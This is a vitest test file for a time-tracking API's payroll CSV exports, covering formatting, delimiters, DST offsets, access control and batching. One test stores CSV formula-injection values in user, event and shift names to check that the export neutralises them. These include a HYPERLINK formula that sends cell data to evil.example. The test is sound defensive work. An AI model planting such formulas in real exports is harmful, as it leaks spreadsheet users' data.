import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { afterEach, describe, expect, it } from 'vitest';
import { asTenant } from '../../src/db/tenant-scope.ts';
import { EXPORT_BATCH_SIZE } from '../../src/time-tracking/payroll.ts';
import { findExportEntries } from '../../src/time-tracking/repository.ts';
import { type Caller, FORBIDDEN_BODY, uniqueName, useRouteTests } from '../support/context.ts';
import { appDbHooks } from '../support/db-hooks.ts';
import { tenantOf } from '../support/scheduling.ts';
import { assignedShift, ledgerMismatches, setTimeTracking } from '../support/time-tracking.ts';

/**
 * The payroll exports: the entries of a period and every balance as CSV files a
 * spreadsheet opens, read back with csv-parse; formula cells neutralised; a large export
 * streamed in batches.
 */
const hooks = appDbHooks();
const t = useRouteTests({ viewDb: hooks.viewDb });
afterEach(async () => {
  expect(await ledgerMismatches(t.ctx.db.owner)).toEqual([]);
});

const ENTRY_HEADER = [
  'user_id',
  'user_name',
  'user_email',
  'event',
  'shift',
  'started_at (Europe/Berlin)',
  'ended_at (Europe/Berlin)',
  'break_minutes',
  'worked_minutes',
  'scheduled_minutes',
  'overtime_minutes',
  'entry_id',
];
/** July 2030 in Berlin (CEST, UTC+2), as a query string. */
const JULY = `from=${encodeURIComponent('2030-07-01T00:00:00+02:00')}&to=${encodeURIComponent('2030-08-01T00:00:00+02:00')}`;

const exportOf = (caller: Caller, query = JULY) =>
  caller.request('GET', `/api/v1/time-tracking/export.csv?${query}`);

/** The file as records, exactly as a CSV reader from npm reads it (BOM dropped). */
const records = (body: string): string[][] => parse(body, { bom: true, relax_column_count: false });

async function record(worker: Caller, shift: { starts_at: string; ends_at: string }, body: object) {
  const assignment = await assignedShift(t.admin, worker, shift);
  const response = await t.admin.request('POST', '/api/v1/time-tracking/entries', {
    shift_assignment_id: assignment,
    ...body,
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json() as { id: string; shift_assignment_id: string };
}

/** A Berlin tenant: Ada 20 minutes over on 2 July, Zoë 15 under on 3 July, each with a name and email. */
async function world() {
  await setTimeTracking(t.admin, true, 'Europe/Berlin');
  const tenant = tenantOf(t.admin);
  const ada = await t.ctx.caller('employee', tenant, uniqueName('ada'), {
    name: 'Ada Lovelace',
    email: 'ada@example.com',
  });
  const zoe = await t.ctx.caller('employee', tenant, uniqueName('zoe'), {
    name: 'Zoë Müller',
    email: 'zoe@example.com',
  });
  const adaEntry = await record(
    ada,
    { starts_at: '2030-07-02T10:00:00Z', ends_at: '2030-07-02T14:00:00Z' },
    { started_at: '2030-07-02T09:50:00Z', ended_at: '2030-07-02T14:40:00Z', break_minutes: 30 },
  );
  const zoeEntry = await record(
    zoe,
    { starts_at: '2030-07-03T10:00:00Z', ends_at: '2030-07-03T14:00:00Z' },
    { started_at: '2030-07-03T10:00:00Z', ended_at: '2030-07-03T13:45:00Z' },
  );
  return { ada, zoe, adaEntry, zoeEntry };
}

describe('GET /time-tracking/export.csv', () => {
  it('is an RFC 4180 UTF-8 file with a BOM, CRLF and a header, read back to the same values', async () => {
    const w = await world();
    // A shift name with a comma and quotes, so quoting shows.
    const shift = (await t.admin.request('GET', '/api/v1/shifts')).json() as { id: string }[];
    await t.ctx.db.owner
      .updateTable('shifts')
      .set({ name: 'Bar, early "VIP"' })
      .where('tenant_id', '=', t.admin.tenantId)
      .where(
        'id',
        'in',
        shift.map((s) => s.id),
      )
      .execute();
    const response = await exportOf(t.admin);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="time-entries_2030-07-01_2030-07-31.csv"',
    );
    expect(response.headers['cache-control']).toBe('private, no-store');
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = response.rawPayload.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(text).toContain('"Bar, early ""VIP"""');
    expect(records(response.body)).toEqual([
      ENTRY_HEADER,
      [
        w.ada.userId,
        'Ada Lovelace',
        'ada@example.com',
        'Festival',
        'Bar, early "VIP"',
        '2030-07-02 11:50 +02:00',
        '2030-07-02 16:40 +02:00',
        '30',
        '260',
        '240',
        '20',
        w.adaEntry.id,
      ],
      [
        w.zoe.userId,
        'Zoë Müller',
        'zoe@example.com',
        'Festival',
        'Bar, early "VIP"',
        '2030-07-03 12:00 +02:00',
        '2030-07-03 15:45 +02:00',
        '0',
        '225',
        '240',
        '-15',
        w.zoeEntry.id,
      ],
    ]);
  });

  it('takes a delimiter, hours columns and a decimal mark, quoting for the delimiter chosen: the exact bytes', async () => {
    const w = await world();
    // A name holding every delimiter and a quote: quoted, whichever delimiter is chosen.
    await t.ctx.db.owner
      .updateTable('users')
      .set({ display_name: 'Lovelace; Ada,\t"AL"' })
      .where('tenant_id', '=', t.admin.tenantId)
      .where('id', '=', w.ada.userId)
      .execute();
    const bytes = async (query: string) => {
      const response = await exportOf(t.admin, `${JULY}&${query}`);
      expect(response.statusCode, `${query}: ${response.body}`).toBe(200);
      return response.rawPayload;
    };
    const file = (lines: string[]) =>
      Buffer.from(`\uFEFF${lines.map((line) => `${line}\r\n`).join('')}`, 'utf8');
    const name = '"Lovelace; Ada,\t""AL"""';
    const zone = '(Europe/Berlin)';
    const ada = [w.ada.userId, name, 'ada@example.com', 'Festival', 'Bar'];
    const zoe = [w.zoe.userId, 'Zoë Müller', 'zoe@example.com', 'Festival', 'Bar'];
    const adaTimes = ['2030-07-02 11:50 +02:00', '2030-07-02 16:40 +02:00'];
    const zoeTimes = ['2030-07-03 12:00 +02:00', '2030-07-03 15:45 +02:00'];
    const minutesHeader = ['break_minutes', 'worked_minutes', 'scheduled_minutes', 'overtime_minutes'];
    const hoursHeader = minutesHeader.flatMap((minutes) => [minutes, minutes.replace('_minutes', '_hours')]);
    const header = (columns: string[]) => [
      'user_id',
      'user_name',
      'user_email',
      'event',
      'shift',
      `started_at ${zone}`,
      `ended_at ${zone}`,
      ...columns,
      'entry_id',
    ];

    // Today's file, byte for byte, with or without delimiter=comma.
    const today = file([
      header(minutesHeader).join(','),
      [...ada, ...adaTimes, 30, 260, 240, 20, w.adaEntry.id].join(','),
      [...zoe, ...zoeTimes, 0, 225, 240, -15, w.zoeEntry.id].join(','),
    ]);
    expect(await bytes('delimiter=comma')).toEqual(today);
    expect((await exportOf(t.admin)).rawPayload).toEqual(today);

    // Semicolons: hours with a decimal comma by default, as German Excel reads them.
    expect((await bytes('delimiter=semicolon&hours=true')).toString('utf8')).toBe(
      file([
        header(hoursHeader).join(';'),
        [...ada, ...adaTimes, 30, '0,50', 260, '4,33', 240, '4,00', 20, '0,33', w.adaEntry.id].join(';'),
        [...zoe, ...zoeTimes, 0, '0,00', 225, '3,75', 240, '4,00', -15, '-0,25', w.zoeEntry.id].join(';'),
      ]).toString('utf8'),
    );
    // Named otherwise, a point.
    expect(await bytes('delimiter=semicolon&hours=true&decimal=point')).toEqual(
      file([
        header(hoursHeader).join(';'),
        [...ada, ...adaTimes, 30, '0.50', 260, '4.33', 240, '4.00', 20, '0.33', w.adaEntry.id].join(';'),
        [...zoe, ...zoeTimes, 0, '0.00', 225, '3.75', 240, '4.00', -15, '-0.25', w.zoeEntry.id].join(';'),
      ]),
    );
    // Tabs: a point by default; the name still quoted (it holds a tab).
    expect(await bytes('delimiter=tab&hours=true')).toEqual(
      file([
        header(hoursHeader).join('\t'),
        [...ada, ...adaTimes, 30, '0.50', 260, '4.33', 240, '4.00', 20, '0.33', w.adaEntry.id].join('\t'),
        [...zoe, ...zoeTimes, 0, '0.00', 225, '3.75', 240, '4.00', -15, '-0.25', w.zoeEntry.id].join('\t'),
      ]),
    );
    // A decimal comma in a comma file is quoted, so the columns hold.
    const commaCommas = await bytes('hours=true&decimal=comma');
    expect(commaCommas.toString('utf8')).toContain(`,-15,"-0,25",${w.zoeEntry.id}\r\n`);
    expect(records(commaCommas.toString('utf8')).map((row) => row.length)).toEqual([16, 16, 16]);
  });

  it('refuses (422) an unknown delimiter, decimal mark or hours value', async () => {
    await setTimeTracking(t.admin, true, 'Europe/Berlin');
    for (const [query, message] of [
      ['delimiter=pipe', 'delimiter: must be one of comma, semicolon, tab'],
      ['decimal=dot', 'decimal: must be one of point, comma'],
      ['hours=yes', 'hours: must be one of true, false'],
    ]) {
      const response = await exportOf(t.admin, `${JULY}&${query}`);
      expect(response.statusCode, query).toBe(422);
      expect(response.json()).toEqual({ error: { code: 'VALIDATION_FAILED', message } });
    }
  });

  it('leaves out proposed entries: only what is in the books is paid', async () => {
    const w = await world();
    const seat = await assignedShift(t.admin, w.ada, {
      starts_at: '2030-07-04T10:00:00Z',
      ends_at: '2030-07-04T14:00:00Z',
    });
    await t.ctx.db.owner
      .insertInto('time_entries')
      .values({
        tenant_id: t.admin.tenantId,
        id: crypto.randomUUID(),
        shift_assignment_id: seat,
        user_id: w.ada.userId,
        started_at: '2030-07-04T10:00:00Z',
        ended_at: '2030-07-04T14:00:00Z',
        break_minutes: 0,
        worked_minutes: 240,
        scheduled_minutes: 240,
        overtime_minutes: 0,
        status: 'proposed',
      })
      .execute();
    const rows = records((await exportOf(t.admin)).body);
    expect(rows.map((row) => row[11])).toEqual(['entry_id', w.adaEntry.id, w.zoeEntry.id]);
  });

  it('neutralises text cells a spreadsheet would run as formulas, and keeps negative numbers numbers', async () => {
    const w = await world();
    const hostile = {
      ada: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      adaEmail: '+1+1',
      event: '-2+3',
      adaShift: '@SUM(A1)',
      zoe: '\t=1',
      zoeShift: '\r=1',
      zoeEmail: '＝1+1',
    };
    // Written past the API, which trims and refuses control characters: the export must
    // hold whatever a row holds.
    const owner = t.ctx.db.owner;
    const tenant = t.admin.tenantId;
    await owner
      .updateTable('users')
      .set({ display_name: hostile.ada, email: hostile.adaEmail })
      .where('tenant_id', '=', tenant)
      .where('id', '=', w.ada.userId)
      .execute();
    await owner
      .updateTable('users')
      .set({ display_name: hostile.zoe, email: hostile.zoeEmail })
      .where('tenant_id', '=', tenant)
      .where('id', '=', w.zoe.userId)
      .execute();
    await owner.updateTable('events').set({ name: hostile.event }).where('tenant_id', '=', tenant).execute();
    const shiftOf = async (assignment: string) =>
      (
        await owner
          .selectFrom('shift_assignments')
          .select('shift_id')
          .where('tenant_id', '=', tenant)
          .where('id', '=', assignment)
          .executeTakeFirstOrThrow()
      ).shift_id;
    for (const [assignment, name] of [
      [w.adaEntry.shift_assignment_id, hostile.adaShift],
      [w.zoeEntry.shift_assignment_id, hostile.zoeShift],
    ] as const) {
      await owner
        .updateTable('shifts')
        .set({ name })
        .where('tenant_id', '=', tenant)
        .where('id', '=', await shiftOf(assignment))
        .execute();
    }

    const rows = records((await exportOf(t.admin)).body).slice(1);
    // Ordered by display name: the tab sorts before the equals sign.
    const [zoe, ada] = rows;
    expect(zoe?.slice(1, 5)).toEqual([
      `'${hostile.zoe}`,
      `'${hostile.zoeEmail}`,
      `'${hostile.event}`,
      `'${hostile.zoeShift}`,
    ]);
    expect(ada?.slice(1, 5)).toEqual([
      `'${hostile.ada}`,
      `'${hostile.adaEmail}`,
      `'${hostile.event}`,
      `'${hostile.adaShift}`,
    ]);
    // No text cell starts a formula; the numeric columns are plain numbers, -15 included.
    for (const row of rows) {
      for (const cell of [...row.slice(0, 7), row[11]]) {
        expect(cell ?? '').not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }
      for (const cell of row.slice(7, 11)) expect(cell).toMatch(/^-?\d+$/);
    }
    expect(zoe?.[10]).toBe('-15');
  });

  it('holds the entries overlapping [from, to), touching ends outside, whoever they are of', async () => {
    const w = await world();
    const only = async (from: string, to: string) =>
      records((await exportOf(t.admin, `from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`)).body)
        .slice(1)
        .map((row) => row[11]);
    // Ada worked 09:50Z-14:40Z on 2 July.
    expect(await only('2030-07-02T14:40:00Z', '2030-07-03T10:00:00Z')).toEqual([]);
    expect(await only('2030-07-02T14:39:00Z', '2030-07-03T10:00:01Z')).toEqual([
      w.adaEntry.id,
      w.zoeEntry.id,
    ]);
    expect(await only('2030-07-01T00:00:00Z', '2030-07-02T09:50:00Z')).toEqual([]);
    // Another tenant's export holds the header only.
    await setTimeTracking(t.otherAdmin, true);
    const theirs = await exportOf(t.otherAdmin);
    expect(theirs.statusCode).toBe(200);
    expect(records(theirs.body)).toEqual([ENTRY_HEADER.map((c) => c.replace('Europe/Berlin', 'UTC'))]);
  });

  it('takes the period as calendar dates in the tenant’s time zone, either end or both', async () => {
    const w = await world();
    const ids = (response: { body: string }) =>
      records(response.body)
        .slice(1)
        .map((row) => row.at(-1));
    // 2 July in Berlin is 1 July 22:00 to 2 July 22:00 in UTC.
    const day = await exportOf(t.admin, 'from=2030-07-02&to=2030-07-03');
    expect(day.statusCode, day.body).toBe(200);
    expect(day.headers['content-disposition']).toBe(
      'attachment; filename="time-entries_2030-07-02_2030-07-02.csv"',
    );
    expect(ids(day)).toEqual([w.adaEntry.id]);
    const mixed = await exportOf(t.admin, 'from=2030-07-02T14:40:00Z&to=2030-07-04');
    expect(mixed.headers['content-disposition']).toBe(
      'attachment; filename="time-entries_2030-07-02_2030-07-03.csv"',
    );
    expect(ids(mixed)).toEqual([w.zoeEntry.id]);
    // A year of days is 366 days of 24 hours when the clocks have changed back and forth.
    expect((await exportOf(t.admin, 'from=2028-01-01&to=2029-01-01')).statusCode).toBe(200);
    expect((await exportOf(t.admin, 'from=2028-01-01&to=2029-01-02')).json()).toEqual({
      error: { code: 'VALIDATION_FAILED', message: 'to: an export covers at most 366 days' },
    });
  });

  it('refuses (422) a missing, empty, reversed or over-long period', async () => {
    await setTimeTracking(t.admin, true);
    for (const [query, message] of [
      ['', 'from: is required'],
      ['from=2030-07-01T00:00:00Z', 'to: is required'],
      ['from=2030-07-01T00:00:00Z&to=2030-07-01T00:00:00Z', 'to: must be after from'],
      ['from=2030-07-02T00:00:00Z&to=2030-07-01T00:00:00Z', 'to: must be after from'],
      ['from=2030-01-01T00:00:00Z&to=2031-01-02T00:00:01Z', 'to: an export covers at most 366 days'],
      // One microsecond too long: the length is judged to the digit the database keeps.
      ['from=2030-01-01T00:00:00Z&to=2031-01-02T00:00:00.000001Z', 'to: an export covers at most 366 days'],
      ['from=2030-07-01&to=2030-02-30', 'to: must match format "date-time" or "date"'],
      ['from=2030-07-01&to=2030-07-01', 'to: must be after from'],
      ['from=2030-07-01T00:00:00Z&to=2030-07-01', 'to: must be after from'],
      ['from=2030-07-01T00:00:00Z&to=2030-08-01T00:00:00Z&user_id=x', 'user_id: is not an allowed field'],
    ]) {
      const response = await exportOf(t.admin, query);
      expect(response.statusCode, query).toBe(422);
      expect(response.json(), query).toEqual({ error: { code: 'VALIDATION_FAILED', message } });
    }
    // Exactly 366 days is a year with its leap day.
    expect((await exportOf(t.admin, 'from=2028-01-01T00:00:00Z&to=2029-01-01T00:00:00Z')).statusCode).toBe(
      200,
    );
  });

  it('is for admins: employees and customers get the fixed 403', async () => {
    await setTimeTracking(t.admin, true);
    const customer = await t.ctx.caller('customer', tenantOf(t.admin), uniqueName('customer'), {
      customer: 'c-1',
    });
    for (const caller of [t.employee, customer]) {
      for (const url of ['/api/v1/time-tracking/export.csv', '/api/v1/time-tracking/balances.csv']) {
        const response = await caller.request('GET', `${url}?${JULY}`);
        expect(response.statusCode, url).toBe(403);
        expect(response.json()).toEqual(FORBIDDEN_BODY);
      }
    }
  });

  it('writes each time with its offset, so the hour a fall-back night repeats reads apart', async () => {
    // Berlin falls back at 03:00 CEST on 31 October 2027: 02:30 happens at 00:30Z and
    // again at 01:30Z. An hour worked across the change starts and ends at "02:30".
    await setTimeTracking(t.admin, true, 'Europe/Berlin');
    const worker = await t.ctx.caller('employee', tenantOf(t.admin), uniqueName('night'), { name: 'Nyx' });
    const night = { starts_at: '2027-10-31T00:30:00Z', ends_at: '2027-10-31T01:30:00Z' };
    const entry = await record(worker, night, { started_at: night.starts_at, ended_at: night.ends_at });
    const query = `from=${encodeURIComponent('2027-10-31T00:00:00+02:00')}&to=${encodeURIComponent('2027-11-01T00:00:00+01:00')}`;
    const [header, row, ...rest] = records((await exportOf(t.admin, query)).body);
    expect(header).toEqual(ENTRY_HEADER);
    expect(rest).toEqual([]);
    expect(row?.slice(5, 9)).toEqual(['2027-10-31 02:30 +02:00', '2027-10-31 02:30 +01:00', '0', '60']);
    expect(row?.[11]).toBe(entry.id);
    // Each cell reads back as the exact instant it stands for.
    const instant = (cell: string) => new Date(cell.replace(' ', 'T').replace(' ', '')).toISOString();
    expect([row?.[5], row?.[6]].map((cell) => instant(cell ?? ''))).toEqual([
      '2027-10-31T00:30:00.000Z',
      '2027-10-31T01:30:00.000Z',
    ]);
  });

  it('writes the offset on a spring-forward night too, where the wall clock skips an hour', async () => {
    // New York springs forward at 02:00 EST on 14 March 2027: an hour worked from 01:30
    // ends at 03:30, two wall-clock hours later.
    await setTimeTracking(t.admin, true, 'America/New_York');
    const worker = await t.ctx.caller('employee', tenantOf(t.admin), uniqueName('spring'), { name: 'Ver' });
    const night = { starts_at: '2027-03-14T06:30:00Z', ends_at: '2027-03-14T07:30:00Z' };
    await record(worker, night, { started_at: night.starts_at, ended_at: night.ends_at });
    const query = `from=${encodeURIComponent('2027-03-14T00:00:00-05:00')}&to=${encodeURIComponent('2027-03-15T00:00:00-04:00')}`;
    const response = await exportOf(t.admin, query);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="time-entries_2027-03-14_2027-03-14.csv"',
    );
    const [header, row] = records(response.body);
    expect(header?.slice(5, 7)).toEqual(['started_at (America/New_York)', 'ended_at (America/New_York)']);
    expect(row?.slice(5, 9)).toEqual(['2027-03-14 01:30 -05:00', '2027-03-14 03:30 -04:00', '0', '60']);
  });

  /** Three batches: two full ones and a part. */
  const count = 2 * EXPORT_BATCH_SIZE + 201;
  // Its time grows with the entries (seeded, exported, read back): 100 ms an entry is over ten
  // times what an idle machine takes, room for a loaded one (the default 30 s was not).
  it('streams a large period in batches, each entry once, in order; any batch in one statement', {
    timeout: count * 100,
  }, async () => {
    await setTimeTracking(t.admin, true);
    const worker = await t.ctx.caller('employee', tenantOf(t.admin), uniqueName('night'), { name: 'Nyx' });
    // Entries written in one go past the API: one-hour shifts two hours apart, worked as planned.
    await sql`
      WITH role AS (
        INSERT INTO roles (tenant_id, id, name) VALUES (${t.admin.tenantId}, gen_random_uuid(), 'Night') RETURNING id
      ), event AS (
        INSERT INTO events (tenant_id, id, name, starts_at, ends_at)
        VALUES (${t.admin.tenantId}, gen_random_uuid(), 'Year', '2030-01-01Z', '2031-01-01Z') RETURNING id
      ), series AS (
        SELECT i, gen_random_uuid() AS shift, gen_random_uuid() AS slot, gen_random_uuid() AS assignment,
               '2030-01-01Z'::timestamptz + i * interval '2 hours' AS starts
          FROM generate_series(1, ${count}) i
      ), shifts AS (
        INSERT INTO shifts (tenant_id, id, event_id, name, starts_at, ends_at)
        SELECT ${t.admin.tenantId}, shift, (SELECT id FROM event), 'Night ' || i, starts, starts + interval '1 hour'
          FROM series RETURNING id
      )
      SELECT count(*) FROM shifts`.execute(t.ctx.db.owner);
    await sql`
      INSERT INTO shift_slots (tenant_id, id, shift_id, role_id, capacity)
      SELECT s.tenant_id, gen_random_uuid(), s.id, (SELECT id FROM roles WHERE tenant_id = s.tenant_id AND name = 'Night'), 1
        FROM shifts s WHERE s.tenant_id = ${t.admin.tenantId} AND s.name LIKE 'Night %'`.execute(
      t.ctx.db.owner,
    );
    await sql`
      INSERT INTO shift_assignments (tenant_id, id, shift_id, slot_id, user_id, source, starts_at, ends_at)
      SELECT s.tenant_id, gen_random_uuid(), s.id, sl.id, ${worker.userId}, 'assign', s.starts_at, s.ends_at
        FROM shifts s JOIN shift_slots sl ON sl.tenant_id = s.tenant_id AND sl.shift_id = s.id
       WHERE s.tenant_id = ${t.admin.tenantId} AND s.name LIKE 'Night %'`.execute(t.ctx.db.owner);
    await sql`
      INSERT INTO time_entries (tenant_id, id, shift_assignment_id, user_id, started_at, ended_at,
                                worked_minutes, scheduled_minutes, overtime_minutes)
      SELECT tenant_id, gen_random_uuid(), id, user_id, starts_at, ends_at, 60, 60, 0
        FROM shift_assignments WHERE tenant_id = ${t.admin.tenantId} AND user_id = ${worker.userId}`.execute(
      t.ctx.db.owner,
    );
    hooks.statements.length = 0;
    const response = await exportOf(t.admin, 'from=2030-01-01T00:00:00Z&to=2031-01-01T00:00:00Z');
    expect(response.statusCode).toBe(200);
    // The rows of a batch are the one query that joins entries to their events.
    const batches = hooks.statements.filter(
      (s) => s.kind === 'select' && s.tables.includes('time_entries') && s.tables.includes('events'),
    );
    expect(batches).toHaveLength(Math.ceil(count / EXPORT_BATCH_SIZE));
    const rows = records(response.body).slice(1);
    expect(rows).toHaveLength(count);
    expect(new Set(rows.map((row) => row[11])).size).toBe(count);
    expect(rows.map((row) => row[4])).toEqual(Array.from({ length: count }, (_, i) => `Night ${i + 1}`));
    expect(rows[0]?.slice(5, 7)).toEqual(['2030-01-01 02:00 +00:00', '2030-01-01 03:00 +00:00']);
    // A batch of any size is one statement of three parameters: every entry at once.
    const ids = rows.map((row) => row[11] ?? '');
    const all = await asTenant(t.admin.tenantId, () => findExportEntries(t.ctx.db.db, t.admin.tenantId, ids));
    expect(all.map((entry) => entry.id).sort()).toEqual([...ids].sort());
  });
});

describe('GET /time-tracking/balances.csv', () => {
  it('has one row per admin and employee: credited, paid out and the balance, read back exactly', async () => {
    const w = await world();
    const paid = await t.admin.request('POST', '/api/v1/time-tracking/payouts', {
      user_id: w.ada.userId,
      minutes: 10,
    });
    expect(paid.statusCode).toBe(201);
    const response = await t.admin.request('GET', '/api/v1/time-tracking/balances.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="overtime-balances_\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = records(response.body);
    expect(header).toEqual([
      'user_id',
      'user_name',
      'user_email',
      'role',
      'credited_minutes',
      'paid_out_minutes',
      'balance_minutes',
      'updated_at (Europe/Berlin)',
    ]);
    const byUser = new Map(rows.map((row) => [row[0], row]));
    expect(byUser.get(w.ada.userId)?.slice(0, 7)).toEqual([
      w.ada.userId,
      'Ada Lovelace',
      'ada@example.com',
      'employee',
      '20',
      '10',
      '10',
    ]);
    expect(byUser.get(w.ada.userId)?.[7]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2} [+-]\d{2}:\d{2}$/);
    expect(byUser.get(w.zoe.userId)?.slice(3, 8)).toEqual([
      'employee',
      '-15',
      '0',
      '-15',
      expect.any(String),
    ]);
    // Everyone on the staff, with zeros and no change for those without activity.
    expect(byUser.get(t.admin.userId)?.slice(3)).toEqual(['admin', '0', '0', '0', '']);
    expect(byUser.get(t.employee.userId)?.slice(3)).toEqual(['employee', '0', '0', '0', '']);
    // The same people and balances as the JSON list.
    const json = (await t.admin.request('GET', '/api/v1/time-tracking/balances')).json() as {
      user_id: string;
      balance_minutes: number;
    }[];
    expect(rows.map((row) => [row[0], Number(row[6])])).toEqual(
      json.map((b) => [b.user_id, b.balance_minutes]),
    );
  });
});
